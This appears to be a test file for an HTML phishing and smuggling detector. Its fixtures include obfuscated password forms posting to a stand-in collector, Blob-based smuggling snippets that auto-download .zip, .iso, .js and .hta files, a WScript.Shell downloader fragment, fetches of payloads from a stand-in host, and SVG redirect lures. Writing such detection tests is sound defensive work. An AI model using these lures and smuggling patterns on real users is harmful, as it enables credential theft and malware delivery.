import { test } from 'node:test';
import assert from 'node:assert/strict';
import { cpuGrowth } from '../../test-support/growth.js';
import { analyzeHtml } from './index.js';
import { readStringLiteral } from './literal.js';

const LIMITS = { maxPayloadBytes: 1 << 20 };
const LOGIN = '<!DOCTYPE html><html><body><form action="https://collect.example.net/p.php" method="post"><input name="email"><input type="password" name="pw"></form></body></html>';
const percent = (s: string): string => [...Buffer.from(s, 'utf8')].map((b) => `%${b.toString(16).padStart(2, '0').toUpperCase()}`).join('');
const base64 = (s: string): string => Buffer.from(s, 'utf8').toString('base64');
const hex = (s: string): string => [...s].map((c) => `\\x${c.charCodeAt(0).toString(16).padStart(2, '0')}`).join('');

test('a page written by script from an encoded string is read: its password form is the file\'s', () => {
  const cases: [string, string][] = [
    ['document.write(unescape)', `<script>document.write(unescape('${percent(LOGIN)}'));</script>`],
    ['document.write(decodeURIComponent), double quotes', `<script>document.write(decodeURIComponent("${percent(LOGIN)}"))</script>`],
    ['atob', `<script>document.write(atob("${base64(LOGIN)}"))</script>`],
    ['window.atob in a variable, written later', `<script>var p = window.atob('${base64(LOGIN)}'); document.body.innerHTML = p;</script>`],
    ['unescape(atob(…)): layers peeled', `<script>document.write(unescape(atob('${base64(percent(LOGIN))}')))</script>`],
    ['hex escapes in a written literal', `<script>document.write("${hex(LOGIN)}")</script>`],
    ['pieces joined with +', `<script>document.write(unescape('${percent(LOGIN.slice(0, 60))}' +\n '${percent(LOGIN.slice(60))}'))</script>`],
    ['a form split over two writes', `<script>document.write('${hex(LOGIN.slice(0, 90))}');\ndocument.write("${hex(LOGIN.slice(90))}");</script>`],
    ['an unclosed literal (a cut file)', `<script>document.write(unescape('${percent(LOGIN)}`],
  ];
  for (const [name, html] of cases) {
    const facts = analyzeHtml(html, LIMITS);
    assert.deepEqual(facts.credentialForms, ['https://collect.example.net/p.php'], name);
    assert.ok(facts.urls.includes('https://collect.example.net/p.php'), name);
    assert.ok(facts.obfuscation.length > 0, name);
  }
});

test('only markup counts as a written page: plain strings, binaries and pages without scripts are not read', () => {
  const plain = analyzeHtml(`<script>document.write(unescape('${percent('Hello, your document is ready')}'))</script>`, LIMITS);
  assert.deepEqual(plain.credentialForms, []);
  assert.deepEqual(plain.obfuscation, ['document.write of decoded text']);
  // A smuggled binary decoded by atob is the smuggling finding's, not a page.
  const zip = Buffer.concat([Buffer.from('PK\x03\x04'), Buffer.alloc(600, 7), Buffer.from('<form><input type=password>')]);
  const smuggled = analyzeHtml(`<script>var b = atob("${zip.toString('base64')}"); var blob = new Blob([b]); var a = document.createElement('a'); a.href = URL.createObjectURL(blob); a.download = 'x.zip'; a.click();</script>`, LIMITS);
  assert.equal(smuggled.smuggling, true);
  assert.deepEqual(smuggled.credentialForms, []);
  // Without a script nothing writes anything: an encoded string in the text is only text.
  const noScript = analyzeHtml(`<p>unescape('${percent(LOGIN)}')</p>`, LIMITS);
  assert.deepEqual(noScript.credentialForms, []);
  assert.deepEqual(noScript.obfuscation, []);
  // A plain write of markup is not a page written out of sight (an old "print this page" button).
  const plainWrite = analyzeHtml(`<script>document.write('<input type="button" value="Print Page" onclick="printit()">');</script>`, LIMITS);
  assert.deepEqual(plainWrite.obfuscation, []);
});

test('written pages are followed two layers deep, not further', () => {
  const wrap = (page: string): string => `<script>document.write(unescape('${percent(page)}'))</script>`;
  assert.deepEqual(analyzeHtml(wrap(wrap(LOGIN)), LIMITS).credentialForms, ['https://collect.example.net/p.php']);
  assert.deepEqual(analyzeHtml(wrap(wrap(wrap(LOGIN))), LIMITS).credentialForms, []);
});

test('a page that clicks its own link as it opens redirects there', () => {
  const facts = analyzeHtml('<html><body onload="document.getElementById(\'1\').click();"><a id="1" href="https://landing.example.org/index.html#1234">Open Site</a></body></html>', LIMITS);
  assert.deepEqual(facts.redirects, ['https://landing.example.org/index.html#1234']);
  // A link nobody clicks is not a redirect.
  assert.deepEqual(analyzeHtml('<html><body><a href="https://landing.example.org/">Open</a></body></html>', LIMITS).redirects, []);
});

// Session 43: a link the page marks `download` saves what it fetches: the attachment hands over a remote file, as a redirect.
test('a link with the download attribute to a remote file is where the page sends the reader', () => {
  const rows: [html: string, redirects: string[]][] = [
    ['<html><body><a href="https://docs-share.example/f/Invoice_2291.zip" download>Download</a></body></html>', ['https://docs-share.example/f/Invoice_2291.zip']],
    ['<html><body><a download="Invoice.zip" href="https://docs-share.example/f/x">Get</a></body></html>', ['https://docs-share.example/f/x']],
    ['<html><body><a href=https://docs-share.example/f/Invoice.iso download/></body></html>', ['https://docs-share.example/f/Invoice.iso']],
    // Not: an ordinary link, a download word in the text, a download-named class, a local Blob (the smuggling reading's).
    ['<html><body><a href="https://docs-share.example/f/Invoice.zip">download</a></body></html>', []],
    ['<html><body><a class="download-btn" href="https://docs-share.example/">Open</a></body></html>', []],
    ['<html><body><a href="#" download="x.zip">Save</a></body></html>', []],
  ];
  for (const [html, redirects] of rows) assert.deepEqual(analyzeHtml(html, LIMITS).redirects, redirects, html);
});

// Session 44: an SVG lure's navigation to an address the script builds (decoded, with the reader's address appended), in any
// language; a frame buster, a reload, a relative literal and an app's own computed link are not.
test('a script that navigates to a computed address redirects to what it decodes, or is marked computed (table)', () => {
  const svg = (script: string): string => `<svg xmlns="http://www.w3.org/2000/svg"><script><![CDATA[ ${script} ]]></script></svg>`;
  const rows: [name: string, page: string, redirects: string[], computed: boolean][] = [
    ['atob in a variable, then location.href', svg(`var u = atob("${base64('https://login.example.net/p')}"); window.location.href = u + "#" + "a@b.example";`), ['https://login.example.net/p'], false],
    ['location.replace(atob(…) + e)', svg(`location.replace(atob('${base64('https://login.example.net/q')}') + e)`), ['https://login.example.net/q'], false],
    ['window.open(decodeURIComponent(…))', svg(`window.open(decodeURIComponent("${percent('https://login.example.net/r')}"))`), ['https://login.example.net/r'], false],
    ['joined pieces, nothing decodable', svg('var a = ["ht","tps://","x.example"]; top.location = a.join("");'), [], true],
    // Not navigation to elsewhere
    ['a frame buster', svg('if (top !== self) top.location = self.location;'), [], false],
    ['a comparison', svg('if (location.href == "x") {}'), [], false],
    ['a relative literal', svg('location.href = "page2.html";'), [], false],
    ['no script at all', '<svg xmlns="http://www.w3.org/2000/svg"><text>location = here</text></svg>', [], false],
  ];
  for (const [name, page, redirects, computed] of rows) {
    const facts = analyzeHtml(page, LIMITS);
    assert.deepEqual(facts.redirects, redirects, name);
    assert.equal(facts.computedNavigation ?? false, computed, name);
  }
});

test('readStringLiteral reads JavaScript escapes and stops at its own quote', () => {
  const cases: [string, string, number][] = [
    [`'a\\'b' + x`, `a'b`, 6],
    [`"\\x3cp\\x3e"`, '<p>', 11],
    [`'\\u003c\\u{1F600}'`, '<\u{1F600}', 17],
    ['`a"b`', 'a"b', 5],
    [`'\\n\\t\\\\'`, '\n\t\\', 8],
    [`'\\u{110000}'`, 'u{110000}', 12],
    [`'line\\\ncontinued'`, 'linecontinued', 17],
    [`'open`, 'open', 5],
  ];
  for (const [src, value, end] of cases) {
    const read = readStringLiteral(src, 0);
    assert.deepEqual({ value: read.value, end: read.end }, { value, end }, src);
    assert.equal(read.escaped, /\\[^'"\\]/.test(src.slice(0, end)), src);
  }
});

test('smuggling: a Blob counts with a decoder, a decoded payload or a runnable name; a report\'s CSV export does not', () => {
  const save = (blob: string, name: string): string => `<script>var b = ${blob}; var a = document.createElement("a"); a.href = URL.createObjectURL(b); a.download = "${name}"; a.click();</script>`;
  const zip = Buffer.concat([Buffer.from('PK\x03\x04'), Buffer.alloc(600, 7)]).toString('base64');
  const table: [string, string, boolean][] = [
    ['a CSV export of the page\'s table', save('new Blob(["a,b\\n1,2"], { type: "text/csv" })', 'report.csv'), false],
    ['a JSON export', save('new Blob([JSON.stringify(data)], { type: "application/json" })', 'data.json'), false],
    ['a downloader script in plain text saved as .js', save('new Blob(["var s = new ActiveXObject(\'WScript.Shell\');"])', 'Invoice_2291.js'), true],
    ['a text Blob saved as an .hta', save('new Blob([page])', 'Document.hta'), true],
    ['a Blob of a long base64 string\'s bytes', `<script>var d = "${zip}";</script>${save('new Blob([d])', 'data.bin')}`, true],
    ['atob, then a Blob saved under any name', `<script>var r = atob("${zip}");</script>${save('new Blob([r])', 'report.csv')}`, true],
    ['msSaveOrOpenBlob of a Blob of text, saved as .zip', '<script>window.navigator.msSaveOrOpenBlob(new Blob([x]), "Invoice_2291.zip");</script>', true],
    ['msSaveOrOpenBlob of a CSV', '<script>window.navigator.msSaveOrOpenBlob(new Blob(["a,b"]), "export.csv");</script>', false],
  ];
  for (const [name, html, smuggling] of table) assert.equal(analyzeHtml(`<html><body>${html}</body></html>`, LIMITS).smuggling, smuggling, name);
});

// Session 61 (helper mal62): the smuggler whose payload is behind an address — fetched into a Blob, then saved under a name.
test('smuggling: a file fetched from a server as a Blob counts when saved under a runnable name; a fetched CSV or JSON does not', () => {
  const fetchSave = (url: string, name: string): string => `<script>fetch("${url}").then(function (r) { return r.blob(); }).then(function (b) { var a = document.createElement("a"); a.href = URL.createObjectURL(b); a.download = "${name}"; document.body.appendChild(a); a.click(); });</script>`;
  const xhrSave = (url: string, type: string, name: string): string => `<script>var x = new XMLHttpRequest(); x.open("GET", "${url}", true); x.responseType = "${type}"; x.onload = function () { window.navigator.msSaveOrOpenBlob(new Blob([x.response]), "${name}"); }; x.send();</script>`;
  const table: [string, string, boolean][] = [
    ['fetch → blob() → a.download of a .zip', fetchSave('https://cdn-docs.top/get/2291', 'Invoice_2291.zip'), true],
    ['fetch → blob() → a.download of an .iso', fetchSave('/files/2291', 'Rechnung_2291.iso'), true],
    ['XMLHttpRequest "blob" → msSaveOrOpenBlob of a .js', xhrSave('https://cdn-docs.top/get/2291', 'blob', 'Factura_2291.js'), true],
    ['XMLHttpRequest "arraybuffer" → msSaveOrOpenBlob of a .7z', xhrSave('https://cdn-docs.top/get/2291', 'arraybuffer', 'NF_2291.7z'), true],
    ['fetch → blob() → a.download of the report\'s CSV', fetchSave('/api/report.csv', 'report.csv'), false],
    ['XMLHttpRequest "blob" → msSaveOrOpenBlob of a PDF statement', xhrSave('/statement/2025-05', 'blob', 'Statement_May.pdf'), false],
    ['fetch → json(), no file saved', '<script>fetch("/api/items").then(function (r) { return r.json(); }).then(render);</script>', false],
  ];
  for (const [name, html, smuggling] of table) assert.equal(analyzeHtml(`<html><body>${html}</body></html>`, LIMITS).smuggling, smuggling, name);
});

test('smuggling: the saved names are read in bounded, linear time', () => {
  for (const unit of [' download="a.csv"', '.download = "x', 'mssaveoropenblob(a, "', 'new Blob([x]) ']) {
    const make = (n: number): string => `<script>URL.createObjectURL(b); a.click();</script>${unit.repeat(Math.ceil(n / unit.length))}`;
    const ratio = cpuGrowth(make, (html) => analyzeHtml(html, LIMITS), 3_000);
    assert.ok(ratio < 40, `${JSON.stringify(unit)}: 10× the page took ${ratio.toFixed(1)}× the CPU`);
  }
});

test('hostile input: many unclosed escapes and calls stay linear and bounded', () => {
  const many = `<script>${"document.write('\\u{".repeat(20_000)}</script>`;
  const facts = analyzeHtml(many, LIMITS);
  assert.deepEqual(facts.credentialForms, []);
  const calls = `<script>${"unescape('%3Cp%3E') + ".repeat(50_000)}</script>`;
  assert.deepEqual(analyzeHtml(calls, LIMITS).credentialForms, []);
});
